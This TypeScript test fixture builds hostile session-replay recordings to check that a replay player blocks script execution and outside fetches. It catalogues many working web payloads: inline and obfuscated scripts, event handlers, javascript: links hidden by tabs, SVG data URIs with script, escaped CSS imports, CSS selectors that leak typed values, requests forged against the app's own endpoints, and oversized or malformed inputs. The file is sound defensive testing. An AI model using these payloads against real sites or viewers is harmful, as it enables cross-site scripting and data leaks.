import {
  added,
  change,
  changedAttributes,
  drawing,
  element,
  ids,
  snapshot,
  startsAt,
  style,
  text,
  type RecordedNode,
} from './recorded-nodes.ts';

/** What a hostile recording tries to do. */
export interface Aims {
  /** An address of a foreign server that counts who calls. */
  out: string;
  /** A script that leaves a mark in the page that holds the stage. */
  run: string;
}

/** Recordings that whoever knows a site key could send: name → events. */
export function hostileRecordings(aims: Aims): Record<string, unknown[]> {
  return { ...recordingsThatReachOut(aims), ...malformed(aims.run) };
}

/** Those that want something to run or to be fetched. */
export function recordingsThatReachOut({ out, run }: Aims): Record<string, unknown[]> {
  return {
    ...scripts({ out, run }),
    ...frames({ out, run }),
    ...styles(out),
    ...drawings({ out, run }),
    ...sources({ out, run }),
    ...drawnAndAdopted({ out, run }),
    ...animated({ out, run }),
  };
}

const then = (node: RecordedNode, attributes: Record<string, unknown>) => [
  ...snapshot([node]),
  changedAttributes(node.id, attributes),
];

/** Animations of scripts, which the player hands to the browser's own function. */
function animated({ out, run }: Aims): Record<string, unknown[]> {
  const part = element('p', {}, [text('Moved')]);
  const told = (keyframe: object, more: object = {}, tag = 'es:animation') => [
    ...snapshot([part]),
    {
      type: 5,
      timestamp: startsAt + 100,
      data: {
        tag,
        payload: {
          id: part.id,
          number: 1,
          keyframes: [keyframe, keyframe],
          timing: { duration: 60_000, iterations: null, fill: 'both' },
          state: 'running',
          at: 0,
          rate: 1,
          ...more,
        },
      },
    },
  ];
  return {
    'animation of a picture': told({ backgroundImage: `url(${out}animated.png)` }),
    'animation of a property of the page': told({ '--own': `url(${out}own.png)`, background: 'var(--own)' }),
    'animation of an escaped address': told({ background: `u\\72l(${out}escaped.png)` }),
    'animation of a set of pictures': told({ backgroundImage: `image-set("${out}set.png" 1x)` }),
    'animation of what is none': told({
      onclick: run,
      innerHTML: `<img src=x onerror="${run}">`,
      __proto__: { color: run },
    }),
    'animation of a part of a part': told({ content: `url(${out}part.png)` }, { pseudo: '::before' }),
    'animation without end': told(
      { opacity: 0 },
      { rate: 1e300, at: -1e300, timing: { duration: 1e300, iterations: 1e300 } },
    ),
    'animation of the page': told({ display: 'none' }, { id: ids.document }),
    'video of a size': told({}, { width: `"><script>${run}</script>`, height: `${out}size.png` }, 'es:video'),
  };
}

function scripts({ out, run }: Aims): Record<string, unknown[]> {
  const inline = (tag: string, attributes = {}) => snapshot([element(tag, attributes, [text(run)])]);
  const broken = { src: 'data:image/png;base64,AAAA' };
  const image = element('img', {});
  const words = text('');
  return {
    'script inline': inline('script'),
    'script in capitals': inline('SCRIPT'),
    'script in mixed letters': inline('ScRiPt'),
    'script of a module': inline('script', { type: 'module' }),
    'script from outside': snapshot([element('script', { src: `${out}script.js` })]),
    'script in a drawing': snapshot([drawing('svg', {}, [drawing('script', {}, [text(run)])])]),
    'script with a prefix': inline('svg:script'),
    'script added later': [...snapshot([]), added(element('script', {}, [text(run)]))],
    'script added later in capitals': [...snapshot([]), added(element('SCRIPT', {}, [text(run)]))],
    'script in the head': snapshot([], [element('script', {}, [text(run)])]),
    'noscript with a picture': snapshot([
      element('noscript', {}, [element('img', { src: `${out}noscript.png` })]),
    ]),
    'picture that fails': snapshot([element('img', { ...broken, onerror: run })]),
    'body that loads': snapshot([], [], { onload: run, onpageshow: run }),
    'drawing that loads': snapshot([drawing('svg', { onload: run }, [])]),
    'field that takes the focus': snapshot([element('input', { autofocus: true, onfocus: run })]),
    'details that open': snapshot([element('details', { open: true, ontoggle: run }, [text('more')])]),
    'animation that starts': snapshot(
      [element('div', { style: 'animation: a 1ms', onanimationstart: run }, [text('moves')])],
      [style('@keyframes a { to { opacity: 0.5 } }')],
    ),
    'handler set later': then(image, { ...broken, onerror: run }),
    'handler with odd letters': snapshot([element('img', { ...broken, OnErRoR: run, 'on\nerror': run })]),
    'attribute name that breaks out': snapshot([element('p', { 'x><img src=x onerror=1>': run })]),
    'tag name that breaks out': snapshot([element('p><script>', {}, [text(run)])]),
    'element made special': snapshot([element('button', { is: 'x-run', onclick: run }, [text('go')])]),
    'template with a shadow': snapshot([
      element('template', { shadowrootmode: 'open' }, [element('script', {}, [text(run)])]),
    ]),
    'shadow with a script': snapshot([
      {
        ...element('div', {}, [{ ...element('script', {}, [text(run)]), isShadow: true }]),
        isShadowHost: true,
      },
    ]),
    'link to a script': snapshot([element('a', { href: `javascript:${run}` }, [text('go')])]),
    'link to a script, hidden by a tab': snapshot([
      element('a', { href: `java\tscript:${run}`, target: '_top' }, [text('go')]),
    ]),
    'drawing that turns a link into a script': snapshot([
      drawing('svg', {}, [
        drawing('a', { id: 'turned' }, [
          drawing('set', { attributeName: 'href', to: `javascript:${run}`, begin: '0s' }),
          drawing('animate', { attributeName: 'onclick', values: run, dur: '1s' }),
        ]),
      ]),
    ]),
    'processing by a plugin': [
      ...snapshot([]),
      { type: 6, timestamp: startsAt + 50, data: { plugin: 'x', payload: run } },
    ],
    'text typed into a script': [
      ...snapshot([element('script', {}, [words])]),
      change({ source: 0, adds: [], removes: [], attributes: [], texts: [{ id: words.id, value: run }] }),
    ],
  };
}

function frames({ out, run }: Aims): Record<string, unknown[]> {
  const later = element('iframe', {});
  const page = `<script>${run}</script>`;
  const frame = element('iframe', { rr_src: `${out}frame.html` });
  return {
    'frame from outside': snapshot([element('iframe', { src: `${out}frame.html` })]),
    'frame with a page of its own': snapshot([element('iframe', { srcdoc: page })]),
    'frame with a script for its address': snapshot([element('iframe', { src: `javascript:${run}` })]),
    'frame with data for its address': snapshot([element('iframe', { src: `data:text/html,${page}` })]),
    'frame given its address later': then(later, { src: `${out}later.html`, srcdoc: page }),
    'frame without its walls': snapshot([
      element('iframe', { sandbox: 'allow-scripts allow-same-origin', allow: '*', srcdoc: page }),
    ]),
    'frame of the app itself': snapshot([element('iframe', { src: '/api/user/is_token_valid' })]),
    'frame with a recorded page that runs': [
      ...snapshot([frame]),
      change({
        source: 0,
        isAttachIframe: true,
        texts: [],
        attributes: [],
        removes: [],
        adds: [
          {
            parentId: frame.id,
            nextId: null,
            node: {
              type: 0,
              id: 900,
              rootId: 900,
              childNodes: [element('html', {}, [element('script', {}, [text(run)])])],
            },
          },
        ],
      }),
    ],
    'frames in a set': snapshot([
      element('frameset', { onload: run }, [element('frame', { src: `${out}set.html` })]),
    ]),
    'object from outside': snapshot([element('object', { data: `${out}object.html`, type: 'text/html' })]),
    'embed from outside': snapshot([element('embed', { src: `${out}embed.svg`, type: 'image/svg+xml' })]),
    'portal from outside': snapshot([
      element('portal', { src: `${out}portal.html` }),
      element('fencedframe', { src: `${out}fenced.html` }),
    ]),
    'page that leaves at once': snapshot(
      [],
      [element('meta', { 'http-equiv': 'refresh', content: `0;url=${out}refresh.html` })],
    ),
    'policy that allows all': snapshot(
      [element('script', {}, [text(run)])],
      [element('meta', { 'http-equiv': 'Content-Security-Policy', content: "script-src 'unsafe-inline'" })],
    ),
    'base elsewhere': snapshot([element('img', { src: 'relative.png' })], [element('base', { href: out })]),
    'form that sends itself': snapshot([
      element('form', { action: `${out}form`, method: 'post', target: '_top' }, [
        element('input', { name: 'a', value: 'b' }),
        element('button', { formaction: `javascript:${run}`, autofocus: true }, [text('send')]),
      ]),
    ]),
    'link that calls when clicked': [
      ...snapshot([element('a', { href: out, ping: `${out}ping`, target: '_top' }, [text('go')])]),
      change({ source: 2, type: 2, id: 7, x: 5, y: 5 }),
    ],
  };
}

/** A drawing that runs, loads and leaves where it is no picture, in each place that an address can stand in. */
function drawings({ out, run }: Aims): Record<string, unknown[]> {
  const svg = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="9" height="9" onload="${run.replaceAll('"', '&quot;')}"><script>${run}</script><style>@import "${out}drawn.css"; svg { background: url(${out}drawn.png) }</style><image href="${out}image.png" width="9" height="9"/><use href="${out}use.svg#a"/><foreignObject width="9" height="9"><iframe xmlns="http://www.w3.org/1999/xhtml" src="${out}frame.html"/></foreignObject><filter id="f"><feImage href="${out}fe.png"/></filter></svg>`;
  const packed = `data:image/svg+xml;base64,${Buffer.from(svg).toString('base64')}`;
  const plain = `data:image/svg+xml,${encodeURIComponent(svg)}`;
  const properties = [
    'background-image',
    'mask-image',
    'list-style-image',
    'border-image-source',
    'cursor',
    'filter',
    'clip-path',
  ];
  const rules = properties.map((name) => `${name}: url("${packed}#f")`).join('; ');
  return {
    'drawing as a picture': snapshot([element('img', { src: packed }), element('img', { src: plain })]),
    'drawing in every property': snapshot(
      [element('p', { class: 'x', style: rules }, [text('x')])],
      [style(`.x { ${rules} } .x::before { content: url("${plain}") }`)],
    ),
    'drawing in a property of the page': snapshot(
      [element('p', { class: 'x' }, [text('x')])],
      [
        style(
          `.x { --own: url("${plain}#f"); filter: var(--own); background: var(--own); clip-path: var(--own) }`,
        ),
      ],
    ),
    'drawing in a drawing': snapshot([
      drawing('svg', { width: '9', height: '9' }, [
        drawing('image', { href: plain, width: '9', height: '9' }),
        drawing('use', { href: `${packed}#a` }),
        drawing('feImage', { href: packed }),
      ]),
    ]),
    'drawing as a page': snapshot([
      element('iframe', { src: packed }),
      element('object', { data: packed, type: 'image/svg+xml' }),
      element('embed', { src: packed, type: 'image/svg+xml' }),
      element('a', { href: packed, target: '_top' }, [text('go')]),
    ]),
    'drawing as a page, later': then(element('iframe', {}), { src: packed }),
  };
}

function styles(out: string): Record<string, unknown[]> {
  const sheet = style('p { color: red }');
  const box = element('div', { style: 'width: 9px; height: 9px' });
  const rule = `p { background: url("${out}rule.png") }`;
  return {
    'style that fetches': snapshot([], [style(`body { background: url(${out}style.png) }`)]),
    'style that imports': snapshot([], [style(`@import "${out}import.css"; @import url(${out}two.css);`)]),
    'style that imports between comments': snapshot([], [style(`@im/**/port "${out}comment.css";`)]),
    'style that reads what was typed': snapshot(
      [element('input', { value: 'secret' })],
      [style(`input[value^="s"] { background: url(${out}typed-s.png) }`)],
    ),
    'style with a font': snapshot(
      [],
      [style(`@font-face { font-family: x; src: url(${out}font.woff2) } p { font-family: x }`)],
    ),
    'style with escapes': snapshot([], [style(`body { background: u\\72l(${out}escaped.png) }`)]),
    'style with an escaped import': snapshot([], [style(`@\\69mport "${out}escaped.css";`)]),
    'style with a set of pictures': snapshot(
      [],
      [style(`body { background: image-set("${out}set.png" 1x); cursor: url(${out}cursor.png), auto }`)],
    ),
    'style with a filter': snapshot(
      [],
      [style(`p { filter: url(${out}filter.svg#f); mask: url(${out}m.svg) }`)],
    ),
    'style in an attribute': snapshot([
      element('div', { style: `background: url(${out}attribute.png); width: 9px; height: 9px` }),
    ]),
    'style of a link, inlined': snapshot(
      [],
      [element('link', { rel: 'stylesheet', _cssText: `@import url(${out}inlined.css); ${rule}` })],
    ),
    'style changed later': then(box, { style: { 'background-image': `url(${out}changed.png)` } }),
    'style text changed later': [
      ...snapshot([], [sheet]),
      change({
        source: 0,
        adds: [],
        removes: [],
        attributes: [],
        texts: [{ id: (sheet.childNodes as RecordedNode[])[0]?.id, value: `@import "${out}text.css";` }],
      }),
    ],
    'rule added later': [
      ...snapshot([], [sheet]),
      change({ source: 8, id: sheet.id, adds: [{ rule, index: 0 }] }),
    ],
    'sheet replaced later': [
      ...snapshot([], [sheet]),
      change({ source: 15, id: ids.document, styleIds: [1], styles: [{ styleId: 1, rules: [] }] }, 90),
      change({ source: 8, styleId: 1, replaceSync: rule }),
    ],
    'declaration set later': [
      ...snapshot([], [sheet]),
      change({
        source: 13,
        id: sheet.id,
        index: [0],
        set: { property: 'background-image', value: `url(${out}declared.png)` },
      }),
    ],
    'sheet adopted later': [
      ...snapshot([]),
      change({
        source: 15,
        id: ids.document,
        styleIds: [2],
        styles: [{ styleId: 2, rules: [{ rule, index: 0 }] }],
      }),
    ],
    'style in a shadow': snapshot([
      {
        ...element('div', {}, [
          { ...style(rule), isShadow: true },
          { ...element('p'), isShadow: true },
        ]),
        isShadowHost: true,
      },
    ]),
  };
}

function sources({ out, run }: Aims): Record<string, unknown[]> {
  const link = (rel: string, as = 'script') =>
    element('link', { rel, href: `${out}${rel}`, as, type: 'text/css' });
  const canvas = element('canvas', { rr_dataURL: `${out}canvas.png`, width: '50', height: '50' });
  const video = element('video', { src: `${out}played.mp4`, rr_mediaState: 'played', autoplay: true });
  const image = element('img', { src: 'data:image/png;base64,AAAA' });
  return {
    'picture from outside': snapshot([element('img', { src: `${out}img.png` })]),
    'pictures of many sizes': snapshot([
      element('img', { srcset: `${out}one.png 1x, ${out}two.png 2x`, sizes: '1px' }),
      element('picture', {}, [element('source', { srcset: `${out}source.png` }), element('img', {})]),
    ]),
    'picture of the app itself': snapshot([element('img', { src: '/api/user/log_out' })]),
    'picture given its address later': then(image, { src: `${out}later.png` }),
    'picture with a drawing that runs': snapshot([
      element('img', { src: `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${run}"/>` }),
    ]),
    'video from outside': snapshot([
      element('video', { src: `${out}video.mp4`, poster: `${out}poster.png`, preload: 'auto' }),
    ]),
    'sound from outside': snapshot([
      element('audio', { autoplay: true }, [
        element('source', { src: `${out}sound.mp3` }),
        element('track', { src: `${out}track.vtt`, default: true }),
      ]),
    ]),
    'video that is played': [
      ...snapshot([video]),
      change({ source: 7, id: video.id, type: 0, currentTime: 0, volume: 1, muted: false }),
    ],
    'button that is a picture': snapshot([element('input', { type: 'image', src: `${out}button.png` })]),
    'background of old': snapshot([element('table', { background: `${out}table.png` })], [], {
      background: `${out}body.png`,
    }),
    'links that fetch ahead': snapshot(
      [],
      [link('stylesheet'), link('prefetch'), link('preload'), link('modulepreload'), link('icon', 'image')],
    ),
    'links that tell a name': snapshot([], [link('preconnect'), link('dns-prefetch'), link('manifest')]),
    'drawing from outside': snapshot([
      drawing('svg', { width: '50', height: '50' }, [
        drawing('image', { href: `${out}image.png`, width: '50', height: '50' }),
        drawing('image', { 'xlink:href': `${out}xlink.png`, width: '50', height: '50' }),
        drawing('use', { href: `${out}use.svg#a` }),
        drawing('filter', {}, [drawing('feImage', { href: `${out}fe.png` })]),
      ]),
    ]),
    'page in a drawing': snapshot([
      drawing('svg', {}, [drawing('foreignObject', {}, [element('iframe', { src: `${out}foreign.html` })])]),
    ]),
    'canvas from outside': snapshot([canvas]),
    'canvas that is drawn on': [
      ...snapshot([canvas]),
      change({
        source: 9,
        id: canvas.id,
        type: 0,
        commands: [
          { property: 'drawImage', args: [{ rr_type: 'ImageElement', src: `${out}drawn.png` }, 0, 0] },
        ],
      }),
    ],
    'font that is loaded': [
      ...snapshot([]),
      change({
        source: 10,
        family: 'x',
        fontSource: `url(${out}face.woff2)`,
        buffer: false,
        descriptors: {},
      }),
    ],
  };
}

/** Pictures of canvas elements, fonts that tell a media type, adopted sheets and animations that want more than to be seen. */
function drawnAndAdopted({ out, run }: Aims): Record<string, unknown[]> {
  const canvas = element('canvas', { width: '50', height: '50' });
  const svg = Buffer.from(
    `<svg xmlns="http://www.w3.org/2000/svg" onload="${run.replaceAll('"', '&quot;')}"><image href="${out}in.png"/></svg>`,
  ).toString('base64');
  const drawn = (blob: object, args: unknown[] = [0, 0, 50, 50]) => [
    ...snapshot([canvas]),
    change({
      source: 9,
      id: canvas.id,
      type: 0,
      commands: [
        { property: 'clearRect', args },
        {
          property: 'drawImage',
          args: [{ rr_type: 'ImageBitmap', args: [{ rr_type: 'Blob', ...blob }] }, 0, 0],
        },
      ],
    }),
  ];
  const bytes = (base64: unknown) => [{ rr_type: 'ArrayBuffer', base64 }];
  const adopted = (...rules: string[]) => [
    ...snapshot([element('p', { class: 'x' }, [text('x')])]),
    change({
      source: 15,
      id: ids.document,
      styleIds: [1],
      styles: [{ styleId: 1, rules: rules.map((rule, index) => ({ rule, index })) }],
    }),
  ];
  const face = (address: string) =>
    `@font-face { font-family: x; src: url("${address}") } p { font-family: x }`;
  return {
    'canvas picture that is a drawing': drawn({ type: 'image/svg+xml', data: bytes(svg) }),
    'canvas picture that is a page': drawn({ type: 'text/html', data: bytes(svg) }),
    'canvas picture that leaves its address': drawn({
      type: 'image/png',
      data: bytes(`AAAA"); background: url("${out}left.png`),
    }),
    'canvas picture of a type that leaves its address': drawn({
      type: `image/png"),url("${out}type.png`,
      data: bytes('AAAA'),
    }),
    'canvas picture without end': drawn(
      { type: 'image/png', data: bytes('A'.repeat(900_000)) },
      [0, 0, 1e9, 1e9],
    ),
    'canvas of a size that is none': [
      ...snapshot([element('canvas', { width: `9" onload="${run}`, height: '-1' })]),
      ...drawn({ type: 'image/png', data: bytes('AAAA') }).slice(2),
    ],
    'canvas with content of its own': snapshot([
      element('canvas', { style: `content: url("${out}content.png")`, width: '9', height: '9' }),
    ]),
    'canvas call beside a picture': [
      ...snapshot([canvas]),
      change({
        source: 9,
        id: canvas.id,
        type: 1,
        commands: [
          { property: 'constructor', args: [run] },
          { property: 'drawImage', args: [{ rr_type: 'ImageElement', src: `${out}call.png` }] },
        ],
      }),
    ],
    'film with a poster from outside': snapshot([
      element('video', { poster: `${out}poster.png`, width: '9' }),
    ]),
    'font that is a page': snapshot(
      [],
      [style(face(`data:text/html;charset=utf-8,<script>${run}</script>`))],
    ),
    'font that is a drawing': snapshot([], [style(face(`data:image/svg+xml;charset=utf-8;base64,${svg}`))]),
    'font with a type that leaves its address': snapshot(
      [],
      [style(face(`data:application/font-woff;charset=utf-8%22),url(${out}font.woff);base64,AAAA`))],
    ),
    'adopted sheet that fetches': adopted(
      `p { background: url(${out}adopted.png) }`,
      `@import url(${out}adopted.css);`,
      face(`${out}adopted.woff2`),
    ),
    'adopted sheet with escapes': adopted(`p { background: u\\72l(${out}escaped-adopted.png) }`),
    'adopted sheet of a part that can have none': [
      ...snapshot([canvas]),
      change({
        source: 15,
        id: canvas.id,
        styleIds: [2],
        styles: [{ styleId: 2, rules: [{ rule: `p { cursor: url(${out}cursor.png), auto }` }] }],
      }),
    ],
    'adopted sheet of a frame': [
      ...snapshot([element('iframe', { id: 'f' })]),
      change({
        source: 15,
        id: 999,
        styleIds: [3],
        styles: [{ styleId: 3, rules: [{ rule: `p { background: url(${out}nobody.png) }` }] }],
      }),
    ],
    'animation that fetches': snapshot(
      [element('p', { style: 'animation: a 1s both' }, [text('x')])],
      [
        style(
          `@keyframes a { from { background: url(${out}from.png) } to { background: image-set("${out}to.png" 1x) } }`,
        ),
      ],
    ),
    'animation of scrolling': snapshot(
      [
        element(
          'p',
          {
            style: `animation: a linear both; animation-timeline: scroll(); offset-path: url(${out}path.svg#a)`,
          },
          [text('x')],
        ),
      ],
      [style(`@keyframes a { to { cursor: url(${out}scrolled.png), auto } }`)],
    ),
    'change of view that fetches': snapshot(
      [],
      [
        style(
          `@view-transition { navigation: auto } ::view-transition-new(root) { background: url(${out}view.png) }`,
        ),
      ],
    ),
  };
}

function malformed(run: string): Record<string, unknown[]> {
  let deep: unknown = text('deep');
  for (let level = 0; level < 230; level++) deep = element('div', {}, [deep]);
  const at = startsAt + 50;
  return {
    'event without data': [...snapshot([]), { type: 3, timestamp: at, data: null }],
    'events of wrong types': [
      ...snapshot([]),
      { type: 'three', timestamp: at, data: {} },
      { type: 3, timestamp: 'now', data: {} },
      { type: 99, timestamp: at, data: { source: 0 } },
      { timestamp: at },
    ],
    'changes of wrong types': [
      ...snapshot([]),
      change({ source: 0, adds: 'all', removes: 7, texts: null, attributes: { id: 4 } }),
      change({ source: 1, positions: 'here' }),
      change({ source: 2, type: 'click', id: {}, x: [], y: null }),
      change({ source: 3, id: ids.body, x: 1e300, y: -1e300 }),
      change({ source: 5, id: ids.body, text: { toString: run }, isChecked: 'yes' }),
    ],
    'nodes of wrong types': snapshot([
      null,
      7,
      'text',
      [],
      { type: 2, id: 'x', tagName: 'p' },
      { type: 2, id: 50, tagName: { a: 1 }, attributes: 'none', childNodes: {} },
      { type: 44, id: 51 },
    ]),
    'picture without a page': [
      { type: 4, timestamp: startsAt, data: { href: `javascript:${run}`, width: 'wide', height: -1 } },
      { type: 2, timestamp: startsAt + 1, data: { node: { type: 3, id: 1, textContent: 'no page' } } },
    ],
    'no picture at all': [
      change({ source: 3, id: 1, x: 0, y: 0 }, 0),
      change({ source: 3, id: 1, x: 0, y: 9 }),
    ],
    'deep nesting': snapshot([deep]),
    'deep nesting added later': [...snapshot([]), added(deep)],
    'names of the language itself': snapshot([
      JSON.parse(
        '{"type":2,"id":60,"tagName":"p","attributes":{"__proto__":{"a":1},"constructor":"x"},"childNodes":[]}',
      ),
      element('__proto__'),
      element('constructor'),
    ]),
    'window without end': [
      { type: 4, timestamp: startsAt, data: { href: '', width: 1e15, height: 1e15 } },
      ...snapshot([]).slice(1),
      change({ source: 4, width: 1e12, height: Number.MAX_SAFE_INTEGER }),
    ],
    'the same number for all': [
      ...snapshot([]),
      added({ ...element('p'), id: ids.body }),
      added({ ...element('p', {}, [{ ...element('b'), id: ids.html }]), id: ids.document }),
    ],
    'page taken away': [
      ...snapshot([]),
      change({
        source: 0,
        adds: [],
        texts: [],
        attributes: [],
        removes: [
          { id: ids.html, parentId: ids.document },
          { id: 12_345, parentId: ids.body },
        ],
      }),
      change({ source: 1, positions: [{ id: ids.body, x: 5, y: 5, timeOffset: -10 }] }, 160),
    ],
    'nodes without a parent': [...snapshot([]), added(element('p'), 98_765), added(element('p'), -2)],
    'very many nodes': [
      ...snapshot([]),
      ...Array.from({ length: 3000 }, (_, n) =>
        added(element('i', {}, [text(String(n))]), ids.body, 100 + (n % 50)),
      ),
    ],
    'a very long word': snapshot([element('p', { title: 'a'.repeat(300_000) }, [text('b'.repeat(300_000))])]),
  };
}
